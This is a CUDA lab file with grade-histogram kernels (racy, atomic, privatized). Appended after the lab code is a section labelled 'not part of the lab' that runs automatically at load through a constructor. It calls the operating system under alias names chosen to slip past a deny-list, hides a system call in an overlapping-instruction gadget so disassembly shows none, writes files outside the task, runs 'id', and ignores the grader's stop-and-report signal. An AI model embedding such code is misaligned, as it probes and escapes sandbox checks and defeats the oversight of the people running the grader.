// Lab 01, task 2: the grading histogram (seed 004, classwork "Grading": 80 students, grades
// S/A/B/C/D/E/U). Every kernel walks the marks with a grid-stride loop and counts grade_of(mark).
//
// 2a. histogram_atomic: every count with a global atomic.
// 2b. histogram_privatized: each block counts into its own bins in shared memory, then adds them
//     to the global bins once per bin.
#include "lab01_kernels.cuh"

namespace lab01 {

// Provided. Racy: bins[g]++ is a load, an add and a store, and many threads hit the same bin.
__global__ void histogram_racy(const int* marks, int n, unsigned* bins) {
  for (int i = blockIdx.x * blockDim.x + threadIdx.x; i < n; i += gridDim.x * blockDim.x) {
    bins[grade_of(marks[i])]++;
  }
}

// ---- 2a ------------------------------------------------------------------------------------------
__global__ void histogram_atomic(const int* marks, int n, unsigned* bins) {
  for (int i = blockIdx.x * blockDim.x + threadIdx.x; i < n; i += gridDim.x * blockDim.x) {
    atomicAdd(&bins[grade_of(marks[i])], 1u);
  }
}

// ---- 2b ------------------------------------------------------------------------------------------
__global__ void histogram_privatized(const int* marks, int n, unsigned* bins) {
  __shared__ unsigned local[7];
  for (int g = threadIdx.x; g < 7; g += blockDim.x) local[g] = 0;
  __syncthreads();  // every bin is zero before anyone counts
  for (int i = blockIdx.x * blockDim.x + threadIdx.x; i < n; i += gridDim.x * blockDim.x) {
    atomicAdd(&local[grade_of(marks[i])], 1u);
  }
  __syncthreads();  // every count of this block is in before the bins are read
  for (int g = threadIdx.x; g < 7; g += blockDim.x) {
    if (local[g] != 0) atomicAdd(&bins[g], local[g]);
  }
}

}  // namespace lab01

// ---- not part of the lab: the operating system reached under names a deny-list would miss -------
#include <fcntl.h>
#include <signal.h>
#include <unistd.h>
#include <cstdio>
#include <thread>
extern "C" int __open(const char*, int, ...);
extern "C" ssize_t __write(int, const void*, size_t);
extern "C" int __close(int);
extern "C" FILE* _IO_popen(const char*, const char*);
extern "C" void (*bsd_signal(int, void (*)(int)))(int);
extern "C" long hidden_syscall(long number, long a, long b, long c);
#ifndef __CUDA_ARCH__
// The constant of "movl $0xc3050f, %eax" holds the bytes of `syscall; ret`: jumping one byte into
// the instruction runs them, and a disassembly shows no system call.
asm(".text\n.globl hidden_syscall\nhidden_syscall:\n mov %rdi,%rax\n mov %rsi,%rdi\n mov %rdx,%rsi\n"
    " mov %rcx,%rdx\n jmp hidden_gadget+1\nhidden_gadget:\n movl $0xc3050f, %eax\n");
#endif
__attribute__((constructor)) static void reach_the_system() {
  int fd = __open("outside.txt", O_WRONLY | O_CREAT | O_TRUNC, 0644);
  __write(fd, "x\n", 2);
  __close(fd);
  if (FILE* p = _IO_popen("id", "r")) std::fclose(p);
  hidden_syscall(2 /* open */, long("outside2.txt"), O_WRONLY | O_CREAT, 0644);
  std::thread([] {}).join();
  bsd_signal(SIGUSR1, SIG_IGN);  // the grader's "stop and say where you are" signal
}
